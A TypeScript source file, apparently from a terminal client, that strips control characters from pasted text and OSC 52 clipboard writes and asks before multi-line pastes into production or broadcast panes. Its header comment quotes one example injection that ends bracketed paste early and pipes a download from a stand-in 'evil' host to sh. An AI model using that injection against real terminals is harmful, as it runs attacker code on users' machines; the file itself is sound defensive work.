// What may reach a pane as pasted text, and what a host may put on the clipboard.
//
// A paste is sent inside bracketed-paste markers (ESC[200~ … ESC[201~) when the program asked
// for them, so a shell takes it as text, not as commands. Text that holds ESC[201~ itself ends
// that early and everything after it runs as typed: a host that wrote such text to the
// clipboard through OSC 52 (`\e[201~curl evil|sh\n`) gets it run by the responder's next paste.
// So pasted text keeps only printable characters, tab and line breaks (every other C0 control,
// DEL and C1 is removed, ESC included, and the removal is shown), and clipboard writes from
// hosts keep only printable text, tab and newline. A paste with a line break runs commands at
// once in a shell without bracketed paste; into a production pane or with broadcast on, such a
// paste asks first.

/** C0 controls except tab, LF and CR; DEL; C1 controls. */
// eslint-disable-next-line no-control-regex
const PASTE_REMOVED = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/g
/** For clipboard writes: CR goes too (a lone CR would overwrite the line when pasted). */
// eslint-disable-next-line no-control-regex
const CLIPBOARD_REMOVED = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/g

export interface Cleaned {
  text: string
  /** How many characters were removed. */
  removed: number
}

function strip(text: string, re: RegExp): Cleaned {
  let removed = 0
  const out = text.replace(re, () => {
    removed++
    return ''
  })
  return { text: out, removed }
}

/** Pasted text as it may be sent to a pane. */
export function cleanPaste(text: string): Cleaned {
  return strip(text, PASTE_REMOVED)
}

/** Text a host asked to put on the clipboard (OSC 52), as it may be stored there. */
export function cleanClipboardWrite(text: string): Cleaned {
  return strip(text.replace(/\r\n/g, '\n'), CLIPBOARD_REMOVED)
}

/**
 * The bytes a paste sends, as xterm would: line breaks as CR (Enter), wrapped in the
 * bracketed-paste markers when the program enabled that mode.
 */
export function pasteBytes(text: string, bracketed: boolean): string {
  const body = text.replace(/\r?\n/g, '\r')
  return bracketed ? `\x1b[200~${body}\x1b[201~` : body
}

export interface PasteContext {
  /** The pane is a session on a production-tagged target. */
  production: boolean
  /** The paste would go to every broadcast target. */
  broadcast: boolean
}

/** Whether to ask before sending: where a stray line runs on production or on many hosts. */
export function pasteNeedsConfirm(cleaned: Cleaned, ctx: PasteContext): boolean {
  if (!ctx.production && !ctx.broadcast) return false
  return /[\r\n]/.test(cleaned.text) || cleaned.removed > 0
}
